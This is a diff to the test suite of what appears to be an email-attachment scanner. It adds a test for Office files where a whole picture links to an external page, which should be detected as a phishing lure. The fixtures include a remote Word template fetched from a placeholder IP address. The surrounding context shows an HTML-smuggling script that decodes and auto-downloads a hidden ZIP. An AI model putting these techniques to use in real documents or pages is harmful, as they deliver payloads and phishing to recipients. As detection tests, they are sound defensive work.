@@ -135,6 +135,44 @@ test('PDF: obfuscated /JavaScript in an object stream is found; a PDF with links
   assert.deepEqual(b.out.iocs?.urls, ['https://example.com/report']);
 });
 
+test('Office link lure: a whole picture or shape that links elsewhere, handed over by a body that says nearly nothing', async () => {
+  const hyperlink = (target: string) => `<Relationships><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`;
+  const template = '<Relationships><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>';
+  // The honeypot's slide (session 9): one picture whose non-visual properties carry the click.
+  const picture = '<p:sld><p:cSld><p:spTree><p:pic><p:nvPicPr><p:cNvPr id="54" name="Google Shape;54;p13"><a:hlinkClick r:id="rId3"/></p:cNvPr></p:nvPicPr></p:pic></p:spTree></p:cSld></p:sld>';
+  const wordPicture = '<w:document><w:body><w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Picture 1"><a:hlinkClick xmlns:a="x" r:id="rId3"/></wp:docPr></wp:inline></w:drawing></w:r></w:p></w:body></w:document>';
+  const textLink = '<w:document><w:body><w:p><w:hyperlink r:id="rId3"><w:r><w:t>the wiki page</w:t></w:r></w:hyperlink></w:p></w:body></w:document>';
+  const pptx = (slide: string, rels: string) => buildZip([
+    { name: '[Content_Types].xml', data: '<Types/>' },
+    { name: 'ppt/slides/slide1.xml', data: slide },
+    { name: 'ppt/slides/_rels/slide1.xml.rels', data: rels },
+  ]);
+  const docx = (body: string, rels: string) => buildZip([
+    { name: '[Content_Types].xml', data: '<Types/>' },
+    { name: 'word/document.xml', data: body },
+    { name: 'word/_rels/document.xml.rels', data: rels },
+  ]);
+  const long = 'Minutes of the meeting. '.repeat(30);
+  const rows: { name: string; filename: string; content: Uint8Array; text: string; lure: boolean }[] = [
+    { name: 'a slide that is a picture linked to a landing page ("INFO ATTACH. Client ID")', filename: 'o5314p25TJ6qN.pptx', content: pptx(picture, hyperlink('https://giftether.example/')), text: 'INFO ATTACH. Client ID: #0440519', lure: true },
+    { name: 'a Word picture that is a link, entity-encoded', filename: 'Invoice.docx', content: docx(wordPicture, hyperlink('https://pay.example.net/inv?a=1&amp;b=2')), text: 'See attached.', lure: true },
+    { name: 'must not: a link on a run of text (a report citing a page)', filename: 'report.docx', content: docx(textLink, hyperlink('https://wiki.example.org/page')), text: '', lure: false },
+    { name: 'must not: the body says what it has to say', filename: 'minutes.pptx', content: pptx(picture, hyperlink('https://wiki.example.org/page')), text: long, lure: false },
+    { name: 'must not: a picture that links to a mail address', filename: 'contacts.pptx', content: pptx(picture, hyperlink('mailto:someone@example.org')), text: 'Attached.', lure: false },
+    { name: 'must not: the picture id resolves to a remote template, another finding', filename: 'offer.docx', content: docx(wordPicture, template), text: 'Attached.', lure: false },
+    { name: 'must not: the link in another part than the picture\'s', filename: 'deck.pptx', content: buildZip([{ name: 'ppt/slides/slide1.xml', data: picture }, { name: 'ppt/slides/_rels/slide2.xml.rels', data: hyperlink('https://elsewhere.example/') }]), text: '', lure: false },
+  ];
+  for (const row of rows) {
+    const { ids, verdict, evidence } = await run([{ filename: row.filename, content: row.content }], row.text);
+    assert.equal(ids.has('ATTACH_OFFICE_LINK_LURE'), row.lure, `${row.name}\n${evidence}`);
+    if (row.lure) {
+      assert.match(evidence, /ATTACH_OFFICE_LINK_LURE [^:]+: a picture links to https:\/\//, row.name);
+      // Phishing-class evidence that decides nothing alone, like the PDF that is only a link.
+      assert.equal(verdict, 'clean', row.name);
+    }
+  }
+});
+
 test('HTML smuggling: the smuggled file is decoded and analysed; credential forms are phishing', async () => {
   const payload = buildZip([{ name: 'Invoice.iso', data: Buffer.alloc(100, 1) }]).toString('base64');
   const html = `<html><body><script>var b64 = "${payload.padEnd(400, 'A')}"; var bin = atob(b64); var bytes = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i); var blob = new Blob([bytes], {type: 'application/octet-stream'}); if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, 'Invoice.zip'); else { var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'Invoice.zip'; a.click(); }</script></body></html>`;
